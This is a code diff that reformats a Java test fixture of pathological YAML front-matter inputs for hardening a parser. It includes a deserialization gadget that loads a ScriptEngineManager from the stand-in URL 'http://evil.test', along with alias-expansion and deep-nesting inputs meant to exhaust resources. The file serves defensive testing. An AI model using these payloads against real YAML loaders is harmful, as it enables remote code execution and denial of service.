@@ -17,23 +17,35 @@ public record PathologicalFrontMatter(String name, String content) {
         of("a map in itself", "a: &a {b: *a}\ntags: *a"),
         of("deep lists", "a: " + "[".repeat(20_000)),
         of("deep maps", "a: " + "{b: ".repeat(10_000)),
-        of("deep blocks", IntStream.range(0, 300).mapToObj(i -> " ".repeat(i) + "a:").collect(lines())),
+        of(
+            "deep blocks",
+            IntStream.range(0, 300).mapToObj(i -> " ".repeat(i) + "a:").collect(lines())),
         of("deep dashes", "- ".repeat(10_000)),
         of("a million digits", "a: " + "9".repeat(60_000)),
-        of("tags of Java", "a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.test']]"),
+        of(
+            "tags of Java",
+            "a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.test']]"),
         of("tags of nobody", "a: !<tag:evil> b\n? !x [c]\n: d"),
         of("many keys", IntStream.range(0, 5000).mapToObj(i -> "k" + i + ": v").collect(lines())),
         of("a long key", "k".repeat(60_000) + ": v"),
         of("a long tag", "tags: [" + "t".repeat(40_000) + "]"),
-        of("many tags", "tags: [" + IntStream.range(0, 8000).mapToObj(i -> "t" + i).collect(Collectors.joining(",")) + "]"),
+        of(
+            "many tags",
+            "tags: ["
+                + IntStream.range(0, 8000).mapToObj(i -> "t" + i).collect(Collectors.joining(","))
+                + "]"),
         of("many slashes", "tags: [" + "a/".repeat(20_000) + "b]"),
-        of("control characters", "title: \"\\0\\a\\e\\u2028\\uFFFE\\x85\"\ntags: [\"\\0\", \"\\n\"]"),
+        of(
+            "control characters",
+            "title: \"\\0\\a\\e\\u2028\\uFFFE\\x85\"\ntags: [\"\\0\", \"\\n\"]"),
         of("lone surrogates", "title: \"\\uD83D\"\ntags: [\"\\uDC00\"]"),
         of("quotes without end", "a: \"" + "b".repeat(50_000)),
         of("many quotes", "a: " + "'".repeat(50_001)),
         of("many colons", ": ".repeat(20_000)),
         of("many question marks", "? ".repeat(10_000)),
-        of("many anchors", IntStream.range(0, 4000).mapToObj(i -> "a" + i + ": &b" + i + " c").collect(lines())),
+        of(
+            "many anchors",
+            IntStream.range(0, 4000).mapToObj(i -> "a" + i + ": &b" + i + " c").collect(lines())),
         of("many documents", "--- a\n".repeat(5000)),
         of("many directives", "%YAML 1.2\n".repeat(5000)),
         of("block scalars", "a: |9\n" + (" ".repeat(9) + "b\n").repeat(4000)),
@@ -60,7 +72,8 @@ public record PathologicalFrontMatter(String name, String content) {
 
   /// Each map holds the one before it twice, and the first holds a long text a thousand times.
   private static String longStringsInMaps() {
-    String first = "s: &s " + "x".repeat(20_000) + "\nm0: &m0 {k: [" + "*s,".repeat(1000) + "*s]}\n";
+    String first =
+        "s: &s " + "x".repeat(20_000) + "\nm0: &m0 {k: [" + "*s,".repeat(1000) + "*s]}\n";
     return first
         + IntStream.range(1, 10)
             .mapToObj(i -> "m%d: &m%d {a: *m%d, b: *m%d}".formatted(i, i, i - 1, i - 1))
